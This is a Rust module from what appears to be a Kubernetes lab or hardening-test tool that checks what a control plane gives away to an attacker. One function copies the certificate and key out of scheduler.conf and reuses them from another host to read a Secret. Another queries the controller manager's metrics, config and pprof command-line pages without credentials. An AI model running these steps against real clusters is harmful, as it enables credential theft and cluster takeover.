//! Attacks on `components-to-apiserver`: what the control plane's other parts give away.

use base64::Engine;
use base64::prelude::BASE64_STANDARD;

use super::apiserver_access::marker_secret;
use super::question::Question;
use super::role::Answer;
use super::scene::Scene;
use super::{AttackError, Finding, Wishes, answered};
use crate::client::Kubeconfig;
use crate::lab::plan::CONTROL;

/// Where a leaked file is put by whoever found it.
const LEAKED: &str = "/tmp/leaked.pem";

/// A copy of scheduler.conf, on wire, reads a Secret.
pub fn identity(scene: &mut Scene, _: &Wishes) -> Result<Finding, AttackError> {
    let question = marker_secret(scene)?;
    let text = scene.output("control", words(&["cat", "/etc/kubernetes/scheduler.conf"]), Vec::new())?;
    let pem =
        client_pem(&text).ok_or_else(|| AttackError::Scene("scheduler.conf holds no certificate".into()))?;
    let leak = ["sh", "-c", "umask 077; printf %s \"$LEAK\" > /tmp/leaked.pem"];
    scene.output("wire", words(&leak), vec![("LEAK".into(), pem)])?;
    let answer = scene.ask_from_host("wire", None, &question.identity(LEAKED));
    scene.output("wire", words(&["rm", "-f", LEAKED]), Vec::new())?;
    let gained = "a copy of scheduler.conf is the whole cluster's key";
    let asked = "GET the marker's Secret from wire with scheduler.conf's certificate";
    Ok(Finding::by_answer(&answer?, asked, gained, &["system:kube-scheduler\\\" cannot get"]))
}

/// What only a live controller manager says of itself, and where: figures, configuration, command line.
const PAGES: &[(&str, &str)] = &[
    ("/metrics", "process_resident_memory_bytes"),
    ("/configz", "kubecontrollermanager.config.k8s.io"),
    ("/debug/pprof/cmdline", "--service-account-private-key-file"),
];

/// A node asks the controller manager how it is configured.
pub fn ports(scene: &mut Scene, _: &Wishes) -> Result<Finding, AttackError> {
    let node = scene.node()?.name;
    let (mut read, mut evidence, mut last) = (Vec::new(), Vec::new(), Answer::default());
    for (page, says) in PAGES {
        let url = format!("https://{CONTROL}:10257{page}");
        let answer = scene.ask_from_host(&node, None, &Question::get(&url).find(says))?;
        evidence.push(answered(&format!("GET {url} from {node}, no credential"), &answer));
        read.extend(answer.found.then_some(*page));
        last = answer;
    }
    let live = scene.ask_from_host(&node, None, &Question::get(format!("https://{CONTROL}:6443/livez")))?;
    evidence.push(answered("GET the API server's /livez from the same place", &live));
    let refused = last.error.contains("connection refused") || matches!(last.status, Some(401 | 403));
    Ok(match () {
        () if read.len() == PAGES.len() => Finding::compromised(
            format!("anybody on a node reads the controller manager's own {}", read.join(", ")),
            evidence,
        ),
        // A host that cannot be reached at all refuses nothing.
        () if read.is_empty() && refused && live.status.is_some() => {
            Finding::defeated(format!("turned away: {}", last.line()), evidence)
        }
        () => Finding::inconclusive(format!("read {read:?}; {}", last.line()), evidence),
    })
}

/// The client certificate and key embedded in a kubeconfig, in PEM.
fn client_pem(kubeconfig: &str) -> Option<String> {
    let file: Kubeconfig = serde_yaml_ng::from_str(kubeconfig).ok()?;
    let user = &file.users.first()?.user;
    let decoded =
        |text: &Option<String>| String::from_utf8(BASE64_STANDARD.decode(text.as_ref()?).ok()?).ok();
    Some(decoded(&user.client_certificate_data)? + &decoded(&user.client_key_data)?)
}

/// A command's words.
pub fn words(words: &[&str]) -> Vec<String> {
    words.iter().map(|word| (*word).to_owned()).collect()
}
